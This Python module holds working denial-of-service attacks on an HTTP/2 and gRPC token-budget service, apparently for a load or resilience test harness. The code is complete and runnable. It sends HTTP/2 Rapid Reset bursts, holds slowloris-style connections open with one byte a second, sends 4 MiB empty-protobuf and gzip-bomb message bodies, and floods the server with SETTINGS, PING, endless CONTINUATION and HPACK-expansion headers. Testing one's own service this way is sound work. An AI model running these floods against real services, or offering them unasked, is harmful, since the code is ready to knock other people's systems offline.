"""The attacks on a silo. Each counts in `sent` what it does."""

import gzip
import socket
import struct
import time

CONNECT_SECONDS_MAX = 5
DRIPPING = 1000  # Connections, each with a byte a second.
CONNECTIONS_PER_SECOND = 100  # Of attacks that make a new one each time.
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, DATA, RESET, SETTINGS, PING, CONTINUATION = 1, 0, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
RESERVE = "/agentbudget.v1.BudgetService/ReserveTokens"
RESERVE_JSON = "/v1/reservations"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    return bytes([index]) + length(7, len(value)) + value.encode()


def length(bits, value):
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([value])
    rest, out = value - limit, bytes([limit])
    while rest >= 128:
        out, rest = out + bytes([rest & 127 | 128]), rest >> 7
    return out + bytes([rest])


def head(key, encoding=None):
    block = b"\x83\x86" + literal(4, RESERVE) + literal(1, "localhost")
    block += b"\x00" + literal(12, "content-type")[1:] + length(7, 16) + b"application/grpc"
    block += b"\x00" + literal(0, "authorization")[1:] + length(7, len(key) + 7) + b"Bearer " + key.encode()
    if encoding:
        block += b"\x00" + literal(0, "grpc-encoding")[1:] + length(7, len(encoding)) + encoding.encode()
    return block


def connect(address):
    host, port = address.split(":")
    connection = socket.create_connection((host, int(port)), timeout=CONNECT_SECONDS_MAX)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def read_away(connection):
    connection.setblocking(False)
    try:
        while True:
            if not connection.recv(1 << 18):
                raise ConnectionError("closed")
    except BlockingIOError:
        pass
    finally:
        connection.settimeout(CONNECT_SECONDS_MAX)


class Pace:
    """Lets so many a second through, evenly."""

    def __init__(self, per_second):
        self.between, self.due = 1 / per_second, time.monotonic()

    def wait(self):
        self.due = max(self.due + self.between, time.monotonic() - 1)  # What it is too late for is left out.
        time.sleep(max(0.0, self.due - time.monotonic()))


def rapid_reset(given, sent, stop):
    """Opens and resets streams as fast as the connection takes them, and connects again when it is cut."""
    block = head(given.key_text)
    while not stop.is_set():
        try:
            with connect(given.grpc) as connection:
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                stream = 1
                while not stop.is_set():
                    burst = bytearray()
                    for _ in range(200):
                        burst += frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, b"\0\0\0\x08")
                        stream += 2
                    connection.sendall(burst)
                    read_away(connection)
                    sent.value += 200
        except OSError:
            time.sleep(0.001)


def drips(given, sent, stop):
    """Connections that send a byte a second: heads and bodies of HTTP/1.1, and frames of HTTP/2."""
    body_head = (
        f"POST {RESERVE_JSON} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n"
        f"authorization: Bearer {given.key_text}\r\n\r\n"
    ).encode()
    block = head(given.key_text)
    kinds = [
        (given.http, b"", b"POST / HTTP/1.1\r\nx: " + b"x" * 10_000),
        (given.http, body_head, b" " * 100_000),
        (given.grpc, b"", PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, block) + b"\0" * 100_000),
        (given.grpc, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, block),
         frame(DATA, 0, 1, b"\0\0\0\xff\xff" + b" " * 10_000)),
    ]
    pace = Pace(DRIPPING)

    def open_one(number):
        address, at_once, slowly = kinds[number % len(kinds)]
        connection = connect(address)
        if at_once:
            connection.sendall(at_once)
        connection.setblocking(False)
        return [connection, slowly, 0]

    dripping = []
    for number in range(DRIPPING):
        pace.wait()
        dripping.append(open_one(number))
    while not stop.is_set():
        for number, (connection, slowly, position) in enumerate(dripping):
            pace.wait()
            try:
                connection.send(slowly[position % len(slowly):position % len(slowly) + 1])
                dripping[number][2] += 1
                sent.value += 1
            except BlockingIOError:
                pass
            except OSError:
                connection.close()
                dripping[number] = open_one(number)
            if stop.is_set():
                return


def empty_messages(given, sent, stop):
    """4 MiB of empty sub-messages, again and again: as one message, as gzip, and as messages of the largest size."""
    empty = b"\x32\x00"  # An empty entry of the tags.
    whole = empty * (2 << 20)
    squeezed = gzip.compress(whole, 9)
    largest = empty * (127 << 10)
    forms = [
        (None, b"\0" + struct.pack(">I", len(whole)) + whole, 1),
        ("gzip", b"\1" + struct.pack(">I", len(squeezed)) + squeezed, 1),
        (None, b"\0" + struct.pack(">I", len(largest)) + largest, 16),
    ]
    pace = Pace(CONNECTIONS_PER_SECOND)
    while not stop.is_set():
        for encoding, body, times in forms:
            for _ in range(times):
                pace.wait()
                try:
                    with connect(given.grpc) as connection:
                        connection.sendall(
                            PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 30))
                            + frame(HEADERS, END_HEADERS, 1, head(given.key_text, encoding)))
                        for at in range(0, len(body), 16_384):
                            last = END_STREAM if at + 16_384 >= len(body) else 0
                            connection.sendall(frame(DATA, last, 1, body[at:at + 16_384]))
                        connection.recv(1 << 16)
                except OSError:
                    pass
                sent.value += 1
                if stop.is_set():
                    return


def floods(given, sent, stop):
    """Control frames as fast as they are taken, headers that never end, and headers that unfold."""
    block = head(given.key_text)
    more = (b"\x00" + literal(0, "x")[1:] + length(7, 100) + b"y" * 100) * 100
    entry = b"\x40" + literal(0, "x")[1:] + length(7, 3000) + b"y" * 3000
    kinds = [
        frame(SETTINGS, 0, 0) * 1000,
        frame(PING, 0, 0, b"12345678") * 1000,
        frame(HEADERS, 0, 1, block) + frame(CONTINUATION, 0, 1, more) * 50,
        frame(HEADERS, END_HEADERS | END_STREAM, 1, block + entry + b"\xbe" * 10_000),
    ]
    number, pace = 0, Pace(CONNECTIONS_PER_SECOND)
    while not stop.is_set():
        number += 1
        sent.value += 1
        pace.wait()
        try:
            with connect(given.grpc) as connection:
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                for _ in range(100):
                    connection.sendall(kinds[number % len(kinds)])
                    read_away(connection)
                    if stop.is_set():
                        return
        except OSError:
            time.sleep(0.001)


ATTACKS = ("rapid_reset", "drips", "empty_messages", "floods")
